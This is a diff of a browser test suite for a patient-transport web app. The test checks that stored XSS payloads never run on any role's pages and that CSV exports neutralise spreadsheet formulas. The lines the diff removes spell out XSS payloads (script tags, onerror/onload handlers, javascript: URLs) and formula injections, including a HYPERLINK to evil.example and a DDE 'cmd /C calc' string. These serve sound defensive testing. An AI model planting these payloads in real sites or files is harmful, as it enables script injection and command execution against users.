@@ -5,63 +5,42 @@
  * every record page that shows those records is opened in Chromium. No dialog opens, no payload
  * becomes an element or a handler (checked in the DOM, so the test does not lean on the CSP alone),
  * and the CSP reports no blocked inline script. The CSV exports of the four lists neutralise the
- * formula payloads. The payloads themselves are shown as text on the record pages.
+ * formula payloads. The payloads themselves are shown as text on the record pages. Each role's
+ * rendered menu is checked here too (§6): this walk is the one that signs every role in.
  */
 import fs from "node:fs";
 import type { Browser, BrowserContextOptions, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { FEATURE_CODES } from "../../domain/features";
 import { driversModule } from "../../domain/modules/drivers";
 import { facilitiesModule } from "../../domain/modules/facilities";
 import { patientsModule } from "../../domain/modules/patients";
-import { PENDING_ROUTES } from "../../domain/modules/registry";
 import { tripsModule } from "../../domain/modules/trips";
-import type { FeatureState } from "../../domain/navigation";
-import { isMenuGroup, visibleMenu } from "../../domain/navigation";
 import type { RoleCode } from "../../domain/privileges";
-import { launchBrowser, signInThroughUi } from "./support/browser";
+import { launchBrowser, signInThroughApi } from "./support/browser";
 import type { RunningServer } from "./support/server";
 import { startServer } from "./support/server";
-import { apiGet, apiPost, storedUser } from "./support/sessionApi";
+import { DESKTOP, DRIVER_PHONE } from "./support/contexts";
+import { builtMenuPaths, expectedMenuPaths, menuPaths } from "./support/menu";
+import { storedUser } from "./support/sessionApi";
 import { SLOW, waitForText } from "./support/tripSteps";
+import type { Row } from "./support/xssPayloads";
+import {
+  FORMULA,
+  MARK,
+  XSS,
+  firstId,
+  payloadTraces,
+  poison,
+} from "./support/xssPayloads";
 
-/** Every payload carries this word, so the DOM check can tell a payload's element from the app's. */
-const MARK = "xsspayload";
-const XSS = {
-  script: `<script>alert('${MARK}-script')</script>`,
-  img: `<img src=x onerror=alert('${MARK}-img')>`,
-  svg: `"><svg/onload=alert('${MARK}-svg')>`,
-  iframe: `<iframe src="javascript:alert('${MARK}-iframe')"></iframe>`,
-  details: `<details open ontoggle=alert('${MARK}-details')>`,
-  anchor: `<a href="javascript:alert('${MARK}-a')">${MARK}</a>`,
-  quote: `' onmouseover='alert("${MARK}-attr")`,
-};
-/** Formula payloads: a spreadsheet would run them if a cell started with them. */
-const FORMULA = {
-  hyperlink: `=HYPERLINK("http://evil.example/?${MARK}","Open")`,
-  at: `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
-  plus: `+1+1 ${MARK}`,
-  minus: `-2+3 ${MARK}`,
-};
-
-const DESKTOP: BrowserContextOptions = {
-  viewport: { width: 1280, height: 900 },
-  acceptDownloads: true,
-};
-const PHONE: BrowserContextOptions = {
-  viewport: { width: 390, height: 844 },
-  isMobile: true,
-  hasTouch: true,
-  permissions: ["geolocation"],
-  geolocation: { latitude: 39.9612, longitude: -82.9988, accuracy: 15 },
-};
+const DOWNLOADS: BrowserContextOptions = { ...DESKTOP, acceptDownloads: true };
 const ROLES = {
-  systemadmin: DESKTOP,
-  dataadmin: DESKTOP,
-  facilityadmin: DESKTOP,
-  nurse: DESKTOP,
-  driver: PHONE,
-  customer: DESKTOP,
+  systemadmin: DOWNLOADS,
+  dataadmin: DOWNLOADS,
+  facilityadmin: DOWNLOADS,
+  nurse: DOWNLOADS,
+  driver: DRIVER_PHONE,
+  customer: DOWNLOADS,
 } as const satisfies Partial<Record<RoleCode, BrowserContextOptions>>;
 type Role = keyof typeof ROLES;
 
@@ -80,43 +59,6 @@ const pageOf = (role: Role) => {
   if (!page) throw new Error(`${role} is not signed in`);
   return page;
 };
-
-type Row = Record<string, unknown>;
-
-/** GET the record, overwrite some fields, POST it back (the upsert ignores the read-side extras). */
-async function poison(
-  page: Page,
-  prefix: string,
-  id: string,
-  change: (row: Row) => Row,
-): Promise<Row> {
-  const got = await apiGet<{ data: Row }>(page, `${prefix}/${id}`);
-  expect(got.status).toBe(200);
-  const saved = await apiPost<{ data: Row; message: string }>(
-    page,
-    prefix,
-    change(got.json.data),
-  );
-  expect(saved.status, JSON.stringify(saved.json)).toBe(200);
-  return saved.json.data;
-}
-
-async function firstId(
-  page: Page,
-  prefix: string,
-  idField: string,
-  body: Row,
-): Promise<Row> {
-  const found = await apiPost<{ data: Row[] }>(page, `${prefix}/search`, {
-    pageNumber: 1,
-    pageSize: 1,
-    ...body,
-  });
-  expect(found.status).toBe(200);
-  const row = found.json.data[0];
-  if (!row?.[idField]) throw new Error(`no ${prefix} row for the payloads`);
-  return row;
-}
 
 beforeAll(async () => {
   server = await startServer();
@@ -140,7 +82,7 @@ beforeAll(async () => {
       seen.dialogs.push(dialog.message());
       void dialog.dismiss();
     });
-    await signInThroughUi(page, server.url, `${role}@example.com`);
+    await signInThroughApi(page, server.url, `${role}@example.com`);
     pages.set(role, page);
     signals.set(role, seen);
   }
@@ -200,25 +142,6 @@ afterAll(async () => {
   await server?.stop();
 });
 
-/** What a payload left in the page: elements or handlers it made, and blocked inline scripts. */
-async function payloadTraces(page: Page) {
-  return page.evaluate((mark) => {
-    const made: string[] = [];
-    for (const el of Array.from(document.querySelectorAll("*"))) {
-      for (const attr of Array.from(el.attributes)) {
-        const handler = attr.name.startsWith("on");
-        const jsUrl = /^\s*javascript:/i.test(attr.value);
-        if ((handler || jsUrl) && attr.value.includes(mark))
-          made.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
-      }
-      if (el.tagName === "SCRIPT" && el.textContent?.includes(mark))
-        made.push("<script>");
-    }
-    const w = window as unknown as { __cspViolations?: string[] };
-    return { made, csp: w.__cspViolations ?? [] };
-  }, MARK);
-}
-
 /** Waits for a form field holding a payload (an edit form has loaded the poisoned record). */
 const FIELD = Symbol("a form field holds a payload");
 
@@ -250,17 +173,6 @@ async function visit(
 
 const clean = (path: string) => ({ path, made: [], csp: [], dialogs: [] });
 
-/** The role's menu pages that are built (all toggles on: gates, not data, decide). */
-function menuPathsOf(role: Role): string[] {
-  const on: FeatureState = Object.fromEntries(
-    FEATURE_CODES.map((c) => [c, true]),
-  );
-  const pending = new Set(PENDING_ROUTES.map((r) => r.path));
-  return visibleMenu({ roles: [{ roleCode: role }] }, on)
-    .flatMap((e) => (isMenuGroup(e) ? e.items.map((i) => i.path) : [e.path]))
-    .filter((path) => !pending.has(path));
-}
-
 describe("stored XSS", () => {
   it("the DOM check finds a payload that became an element (it can fail)", async () => {
     const page = pageOf("systemadmin");
@@ -273,6 +185,23 @@ describe("stored XSS", () => {
     expect((await payloadTraces(page)).made).toEqual(["<img onerror>"]);
   });
 
+  // The menu check of every demo role (§6), here where every role is signed in already. Read at a
+  // desktop's width, where the menu is the open sidebar (the driver's phone folds it away).
+  it.each(Object.keys(ROLES) as Role[])(
+    "%s sees exactly its menu",
+    async (role) => {
+      const page = pageOf(role);
+      const { viewport } = ROLES[role];
+      await page.setViewportSize({ width: 1280, height: 900 });
+      await page.goto(`${server.url}/`);
+      // The groups the features decide render once the toggles have loaded: read until they have.
+      await expect
+        .poll(() => menuPaths(page), SLOW)
+        .toEqual(expectedMenuPaths(role));
+      if (viewport) await page.setViewportSize(viewport);
+    },
+  );
+
   // Each menu page once, as the first role (in ROLES' order) whose menu has it: the pages are the
   // same screens for every role, only the rows differ, and the scoped roles' own records are the
   // poisoned ones.
@@ -280,7 +209,7 @@ describe("stored XSS", () => {
   it.each(Object.keys(ROLES) as Role[])(
     "%s: every menu page runs no payload",
     async (role) => {
-      const paths = menuPathsOf(role);
+      const paths = builtMenuPaths(role);
       expect(paths.length).toBeGreaterThan(0);
       for (const path of paths.filter((p) => !walked.has(p))) {
         walked.add(path);
